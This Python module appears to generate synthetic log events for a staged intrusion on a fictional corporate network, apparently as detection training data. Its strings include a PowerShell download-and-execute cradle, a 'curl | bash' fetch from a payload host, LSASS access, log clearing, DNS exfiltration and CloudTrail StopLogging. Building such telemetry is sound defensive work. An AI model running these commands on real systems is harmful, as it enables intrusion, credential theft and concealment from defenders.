"""The attack: what the intruder does on the night of 2026-11-20, in the order of the clock.

Takes nothing; gives events by file. examples/attack-story/README.md tells the same in words.
"""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from story.cloud import Caller, cloudtrail
from story.common import Document, digest
from story.ecs import dns_question, linux_file, linux_host, linux_process, proxy, ssh_logon
from story.windows import Program, Start, WindowsHost

INTRUDER = "203.0.113.77"
SPRAYER = "198.51.100.140"
PAYLOADS = "198.51.100.23"
GATEWAY = "10.20.0.21"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = Program(
    SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell"
)
CMD = Program(SYSTEM32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor")
WEB = linux_host("web01.corp.example", "10.20.8.11")
DEPLOY_BOT = Caller("deploy-bot", INTRUDER)
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{PAYLOADS}/a.ps1')"
POWERSHELL_AGENT = (
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.20348.2849"
)
QUESTIONS = (
    ("whoami.exe", "whoami /all"),
    ("systeminfo.exe", "systeminfo"),
    ("ipconfig.exe", "ipconfig /all"),
    ("net.exe", "net user /domain"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("nltest.exe", "nltest /dclist:corp.example"),
    ("tasklist.exe", "tasklist /v"),
)
DENIED = (
    ("s3", "ListBuckets", "AccessDenied"),
    ("ec2", "DescribeInstances", "Client.UnauthorizedOperation"),
    ("iam", "ListUsers", "AccessDenied"),
    ("secretsmanager", "ListSecrets", "AccessDeniedException"),
    ("rds", "DescribeDBInstances", "AccessDenied"),
    ("lambda", "ListFunctions20150331", "AccessDeniedException"),
)


def at(clock: str) -> datetime:
    """Return the time of the night that "02:10:05" says."""
    return datetime.fromisoformat(f"2026-11-20T{clock}.250000")


def windows_attack(hosts: dict[str, WindowsHost]) -> list[Document]:
    """Return what the Windows machines `rdgw01`, `fs01` and `dc01` log of it."""
    gateway, files, domain = hosts["rdgw01"], hosts["fs01"], hosts["dc01"]
    anna = "CORP\\anna"
    guessed = ("administrator", "ben", "chen", "dora", "svc-backup", "anna", "anna")
    events = [
        gateway.failed_logon(at("02:10:05") + timedelta(seconds=21 * turn), account, INTRUDER)
        for turn, account in enumerate(guessed)
    ]
    events.append(gateway.logon(at("02:13:20"), "anna", INTRUDER, 3))
    events.append(gateway.logon(at("02:13:21"), "anna", INTRUDER, 10))
    events.extend(
        gateway.process(
            at("02:14:32") + timedelta(seconds=17 * turn),
            Start(Program(SYSTEM32 + name, name, name), command, anna, CMD),
        )
        for turn, (name, command) in enumerate(QUESTIONS)
    )
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    start = Start(POWERSHELL, f"powershell.exe -NoP -W Hidden -Enc {encoded}", anna, CMD)
    tool = "C:\\Users\\Public\\m64.exe"
    events += [
        gateway.process(at("02:17:10"), start),
        gateway.script_block(at("02:17:11"), CRADLE),
        gateway.connection(at("02:17:12"), POWERSHELL.image, PAYLOADS, 80),
        gateway.access(at("02:21:15"), tool, SYSTEM32 + "lsass.exe", "0x1010"),
        gateway.scheduled_task(at("02:24:40"), "anna", "\\EdgeUpdateCheck", f"{tool} -q"),
    ]
    services = ("svc-sql", "svc-web", "svc-report", "svc-scan", "svc-print", "svc-hr")
    events.extend(
        domain.service_ticket(
            at("02:26:05") + timedelta(seconds=3 * turn), "anna", name, GATEWAY, "0x17"
        )
        for turn, name in enumerate(services)
    )
    command = "%COMSPEC% /Q /c C:\\Windows\\Temp\\upd.cmd"
    events += [
        files.logon(at("02:31:02"), "svc-backup", GATEWAY),
        files.service_installed(at("02:31:04"), "WinUpdSvc", command),
        gateway.log_cleared(at("02:43:30"), "anna"),
    ]
    return events


def linux_attack() -> list[Document]:
    """Return what the web server logs: guessing by SSH, then a way to stay."""
    names = ("root", "admin", "oracle", "postgres", "test", "ubuntu", "git", "deploy")
    events = [
        ssh_logon(at("02:12:00") + timedelta(seconds=8 * turn), WEB, account, SPRAYER, True)
        for turn, account in enumerate(names * 2)
    ]
    events += [
        ssh_logon(at("02:15:10"), WEB, "deploy", SPRAYER, False),
        linux_process(
            at("02:15:58"),
            WEB,
            f"/bin/sh -c curl -fsSL http://{PAYLOADS}/i | bash",
            "deploy",
            "/bin/bash",
        ),
        linux_file(at("02:16:20"), WEB, "/etc/cron.d/.sync", "/usr/bin/cp", "root"),
    ]
    return events


def network_attack() -> list[Document]:
    """Return what proxy and resolver log: the download, then data carried out inside DNS."""
    events = [proxy(at("02:17:12"), GATEWAY, f"http://{PAYLOADS}/a.ps1", POWERSHELL_AGENT)]
    events.extend(
        dns_question(
            at("02:35:00") + timedelta(seconds=7 * turn),
            GATEWAY,
            f"{digest('chunk', turn)[:52]}.ns.example.org",
            "TXT",
        )
        for turn in range(32)
    )
    return events


def cloud_attack() -> list[Document]:
    """Return what CloudTrail logs: a key found on the web server is tried and made to last."""
    events = [
        cloudtrail(at("02:27:30") + timedelta(seconds=9 * turn), DEPLOY_BOT, *DENIED[turn % 6])
        for turn in range(24)
    ]
    events += [
        cloudtrail(at("02:33:12"), DEPLOY_BOT, "sts", "GetCallerIdentity"),
        cloudtrail(at("02:33:40"), DEPLOY_BOT, "iam", "CreateAccessKey"),
        cloudtrail(at("02:38:05"), DEPLOY_BOT, "cloudtrail", "StopLogging"),
    ]
    return events
